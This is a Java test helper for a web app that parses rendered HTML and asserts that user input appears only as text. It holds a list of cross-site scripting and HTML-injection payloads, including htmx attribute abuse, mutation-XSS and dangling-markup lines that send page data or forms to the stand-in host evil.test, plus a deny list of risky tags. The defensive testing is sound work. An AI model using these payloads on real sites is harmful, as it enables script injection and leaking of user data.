package org.parley.app.web;

import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/** {@code DOM} of docs/security.md: what was put in stands in a page as text only. */
final class Markup {
    /** Payloads of section 5. */
    static final List<String> PAYLOADS =
            List.of(
                    "<script>window.__x=1</script>",
                    "\"><img src=x onerror=window.__x=1>",
                    "' onmouseover=window.__x=1 x='",
                    "</title><svg onload=window.__x=1>",
                    "</textarea><script>window.__x=1</script>",
                    "<svg><script>window.__x=1</script></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x"
                            + " onerror=window.__x=1&gt;\">",
                    "&lt;img src=x onerror=window.__x=1&gt;",
                    "\\x3cimg src=x onerror=window.__x=1\\x3e",
                    "${window.__x=1}",
                    "{{7*7}}",
                    "<div hx-get=\"/logout\" hx-trigger=\"load\">",
                    "<div data-hx-on:click=\"window.__x=1\" hx-vals='js:{a:window.__x=1}'>",
                    "<a href=\"javascript:window.__x=1\">k</a>",
                    "<base href=//evil.test/>",
                    "<form action=//evil.test><button>",
                    "<style>*{display:none}</style>",
                    "<img src='//evil.test/?");

    private static final List<String> NEVER =
            List.of(
                    "base",
                    "style",
                    "iframe",
                    "object",
                    "embed",
                    "math",
                    "template",
                    "noscript",
                    "foreignobject",
                    "mglyph",
                    "textarea[onfocus]");

    private Markup() {}

    static void check(String html) {
        Document page = Jsoup.parse(html);
        for (String name : NEVER) {
            assertTrue(page.select(name).isEmpty(), () -> name + " in " + html);
        }
        for (Element element : page.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                check(element, attribute, html);
            }
            if (element.normalName().equals("script")) {
                assertTrue(
                        element.attr("src").startsWith("/assets/")
                                || element.attr("type").equals("application/json"),
                        html);
            }
        }
    }

    private static void check(Element element, Attribute attribute, String html) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value = attribute.getValue().strip().toLowerCase(Locale.ROOT);
        assertTrue(
                !name.startsWith("on") && !name.equals("style") && !name.equals("srcdoc"),
                () -> name + " in " + html);
        assertTrue(!name.contains("hx-on") && !value.startsWith("js:"), html);
        if (List.of("src", "href", "action", "hx-get", "hx-post", "formaction").contains(name)) {
            assertTrue(
                    value.startsWith("/") && !value.startsWith("//")
                            || value.startsWith("#")
                            || value.startsWith("http://")
                            || value.startsWith("https://"),
                    () -> element + " in " + html);
            assertTrue(!value.contains("evil.test/") || value.contains("%"), html);
        }
    }
}
